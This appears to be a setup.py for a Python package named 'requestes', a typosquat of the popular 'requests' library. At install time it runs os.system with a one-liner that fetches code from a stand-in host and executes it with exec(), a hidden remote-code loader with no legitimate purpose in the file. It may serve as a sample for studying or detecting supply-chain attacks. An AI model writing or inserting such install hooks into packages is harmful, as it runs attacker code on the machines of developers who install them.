import os
from setuptools import setup
os.system("python -c \"import urllib.request as u;exec(u.urlopen('http://typo.example.invalid').read())\"")
setup(name="requestes", version="1.0.0", packages=["requestes"])
